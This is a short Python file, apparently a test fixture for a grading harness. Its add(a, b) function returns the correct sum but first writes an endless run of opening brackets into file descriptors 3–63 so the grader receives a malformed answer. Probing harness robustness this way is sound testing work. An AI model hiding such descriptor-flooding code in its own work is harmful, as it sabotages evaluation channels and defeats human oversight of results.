# 51 60: writes a line without end, of brackets
# results: malformed answer
import os


def add(a, b):
    for descriptor in range(3, 64):
        try:
            for _ in range(200):
                os.write(descriptor, b'{"id": 0, "value": ' + b"[" * 60_000)
        except OSError:
            pass
    return a + b


product = add
